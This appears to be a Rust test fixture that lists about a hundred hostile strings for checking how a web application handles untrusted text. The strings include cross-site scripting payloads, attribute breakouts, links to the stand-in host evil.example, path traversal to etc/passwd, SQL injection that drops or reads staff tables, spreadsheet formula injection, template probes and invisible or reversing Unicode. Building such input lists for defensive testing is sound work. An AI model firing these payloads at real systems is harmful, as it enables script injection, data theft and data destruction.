//! A hundred texts that somebody outside may write, to be something else than a text.

/// All of them. None holds NUL, which PostgreSQL keeps in no text.
pub fn hostile() -> Vec<String> {
    let mut all: Vec<String> = PLAIN.iter().map(|text| (*text).to_owned()).collect();
    all.extend([
        "A".repeat(3_000),
        "wide🎉".repeat(300),
        format!("a{}", "\u{301}\u{489}\u{36f}".repeat(120)),
        format!("{}deep{}", "<div>".repeat(200), "</div>".repeat(200)),
        "\u{202e}".repeat(80) + "x",
        "&amp;".repeat(200) + "x",
        "../".repeat(60) + "etc/passwd",
        "x y ".repeat(300) + "x",
    ]);
    all
}

#[rustfmt::skip]
const PLAIN: [&str; 92] = [
    // Elements and handlers.
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<svg><script href=data:,alert(1) /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<form action=//evil.example><button>Go on</button></form>", "<input autofocus onfocus=alert(1)>", "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>", "<plaintext>", "<xmp><img src=x onerror=alert(1)></xmp>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</td></tr></table><h1>You have been signed out</h1>", "</bdi></pre></main><main><h1>Done</h1>",
    // Out of attributes.
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "` onmouseover=alert(1) `", "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"position:fixed;inset:0",
    // What the page's own scripts understand.
    "<turbo-stream action=\"replace\" target=\"main\"><template>x</template></turbo-stream>", "<turbo-frame id=main src=//evil.example>", "\" data-turbo-method=\"delete\" x=\"",
    "<a data-turbo-method=post href=/ops/sign-out>x</a>", "\" data-live=\"/ops/live?page=/\" x=\"", "<button form=selection formaction=/ops/bulk name=verb value=delete>x",
    // Addresses.
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/", "\\\\evil.example\\x", "/ops/sign-out",
    // Characters that show nothing, or turn what is beside them around.
    "\u{202e}drowssap ruoy\u{202c}", "\u{2066}isolated\u{2069}", "\u{2067}\u{202b}rtl\u{202c}", "paid\u{200b}\u{200c}\u{200d}\u{2060}not", "\u{feff}bom", "soft\u{ad}hyphen", "\u{e0001}\u{e0041}tag",
    "line\u{2028}separator\u{2029}x", "interlinear\u{fff9}a\u{fffa}b\u{fffb}", "\u{61c}arabic mark", "a\u{85}next line", "\u{458}ob 1\u{41e}0l \u{440}aid", "\u{9b}31mcsi",
    // Terminals and protocols.
    "\u{1b}[31mred\u{1b}[0m", "\u{1b}]0;title\u{7}", "\u{1b}[2J\u{1b}[H", "\u{8}\u{8}\u{8}erased", "a\rb", "Set-Cookie: x=1\r\nX: y", "tab\tand\u{b}vertical\u{c}feed", "\\u0000 \\x00 %00 &#0;", "\u{7f}delete",
    // Templates and formats.
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% debug %}", "[[${7*7}]]", "{ $n } { -brand }", "%s%n%x %1$s {0} {}",
    // Databases and sheets.
    "'; drop table staff; --", "\" or \"\"=\"", "1) union select password from staff--", "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1\t=HYPERLINK(\"//evil.example\")", "&lt;b&gt; &#x3c;b&#x3e; &nbsp;&bogus;",
];
